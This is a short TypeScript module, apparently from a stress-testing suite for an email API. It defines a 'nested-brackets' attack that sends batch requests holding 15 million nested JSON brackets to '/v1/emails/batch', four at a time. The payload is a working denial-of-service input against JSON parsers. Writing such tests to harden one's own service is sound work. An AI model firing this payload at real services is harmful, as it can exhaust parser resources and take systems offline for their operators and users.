import type { Attack } from '../attack.ts'

export const nestedBrackets: Attack = {
  name: 'nested-brackets',
  title: 'batches that are 15 million brackets inside each other, 4 at a time',
  aim({ flood }) {
    const depth = 15_000_000
    const body = Buffer.concat([
      Buffer.from('{"emails":'),
      Buffer.alloc(depth, '['),
      Buffer.alloc(depth, ']'),
      Buffer.from('}'),
    ])
    return () => flood(4, ({ key }) => ({ path: '/v1/emails/batch', key, body }))
  },
}
